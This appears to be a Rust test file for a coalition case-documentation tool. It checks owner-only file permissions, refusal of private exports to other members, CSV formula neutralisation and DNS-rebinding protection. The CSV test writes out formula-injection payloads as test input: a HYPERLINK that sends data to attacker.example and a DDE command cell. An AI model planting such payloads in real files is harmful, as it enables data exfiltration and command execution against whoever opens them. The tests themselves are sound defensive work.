//! Do no harm, on disk and in files: what a hostile reader of the machine, or of a file an
//! operator hands on, must not get. Each test would pass a careless implementation only
//! if it leaked.

use std::os::unix::fs::PermissionsExt;

use coalition_tests::{example, found, Org};

fn mode(path: &std::path::Path) -> u32 {
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// Another account on the machine (or a backup tool running as another user) must not
/// read the home, the store, its WAL, or an export with private records, whatever the
/// operator's shell umask.
#[test]
fn home_store_and_exports_are_readable_by_their_owner_only() {
    let org = Org::init("Org A", "RS");
    org.add_example("01-rs-belgrade-protest-force.json", "coalition");
    assert_eq!(mode(&org.home()), 0o700, "home directory");
    let mut checked = 0;
    for entry in std::fs::read_dir(org.home()).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            assert_eq!(
                mode(&path) & 0o077,
                0,
                "{} is readable by others",
                path.display()
            );
            checked += 1;
        }
    }
    assert!(
        checked >= 3,
        "expected the key file, config and store in the home"
    );
    let backup = org.export("jsonl", "backup.jsonl", &["--include-private"]);
    assert_eq!(mode(&backup), 0o600, "an export with private records");
    let bundle = org.export("bundle", "coalition.bundle", &[]);
    assert_eq!(mode(&bundle), 0o600, "a bundle export");
}

/// `--include-private` is for the operator's own backups; with `--for KEY` it would hand
/// another organisation every annex (names of victims and witnesses) silently.
#[test]
fn an_export_for_another_member_refuses_private_records() {
    let org = Org::init("Org A", "RS");
    let other = Org::init("Org B", "GE");
    org.add_example("05-rs-nis-roma-children-profiling.json", "private");
    let path = org.path("for-b.jsonl");
    let out = org.run([
        "export",
        "--format",
        "jsonl",
        "-o",
        path.to_str().unwrap(),
        "--include-private",
        "--for",
        other.key(),
    ]);
    assert_ne!(out.code, 0, "the export was not refused: {}", out.all());
    out.says(&["--include-private", "--for"]);
    assert!(!path.exists(), "a refused export left a file behind");
}

/// A finding's free text is typed by whoever reported it. In a CSV opened in a
/// spreadsheet, a cell starting with `=`, `+`, `-` or `@` runs as a formula (exfiltration
/// through HYPERLINK or WEBSERVICE, commands through DDE).
#[test]
fn csv_exports_neutralise_spreadsheet_formulas() {
    let org = Org::init("Org A", "RS");
    let mut input: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(example("01-rs-belgrade-protest-force.json")).unwrap(),
    )
    .unwrap();
    let formula = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")";
    input["title"] = formula.into();
    input["summary"] = "@SUM(1+1)*cmd|' /C calc'!A0 and more text to pass the length check".into();
    let file = org.write("formula.json", input.to_string());
    org.add(&file, "coalition");
    let csv = std::fs::read_to_string(org.export("csv", "out.csv", &[])).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().expect("one row").unwrap();
    for (name, cell) in headers.iter().zip(row.iter()) {
        let first = cell.chars().next();
        let numeric = cell.parse::<f64>().is_ok();
        assert!(
            numeric || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
            "column {name} starts a formula: {cell:?}"
        );
    }
    assert!(
        csv.contains(&format!("'{}", formula.replace('"', "\"\""))),
        "{csv}"
    );
    // The analyst's query CSV goes through the same guard.
    let out = org.run(["query", "--csv"]);
    out.ok();
    assert!(!out
        .stdout
        .lines()
        .any(|l| l.split(',').any(|c| c.starts_with('='))));
}

/// DNS rebinding: a web page the operator opens elsewhere resolves its own name to
/// 127.0.0.1 and reads the node's API from the browser. Every route, the node routes that
/// name the organisation, its peers and their addresses included, must refuse a request
/// whose `Host` is not this machine.
#[test]
fn every_api_route_refuses_a_foreign_host() {
    let (org, other) = (Org::init("Org A", "RS"), Org::init("Org B", "GE"));
    found("Test Coalition", &[&org, &other], 2);
    let node = org.start_node("a", "");
    let agent = ureq::AgentBuilder::new()
        .timeout(std::time::Duration::from_secs(30))
        .build();
    let get = |path: &str, host: Option<&str>| {
        let mut req = agent.get(&format!("{}{path}", node.api_url()));
        if let Some(h) = host {
            req = req.set("Host", h);
        }
        match req.call() {
            Ok(r) => (r.status(), r.into_string().unwrap_or_default()),
            Err(ureq::Error::Status(s, r)) => (s, r.into_string().unwrap_or_default()),
            Err(e) => panic!("GET {path}: {e}"),
        }
    };
    for path in [
        "/api/v1/status",
        "/api/v1/peers",
        "/api/v1/findings",
        "/api/v1/aggregate?group_by=country",
        "/",
    ] {
        let (status, body) = get(path, Some("attacker.example"));
        assert_eq!(status, 421, "{path} answered a foreign Host: {body}");
        assert!(
            !body.contains("Org A"),
            "{path} named the organisation: {body}"
        );
    }
    let (status, body) = get("/api/v1/status", None);
    assert_eq!(status, 200, "{body}");
}
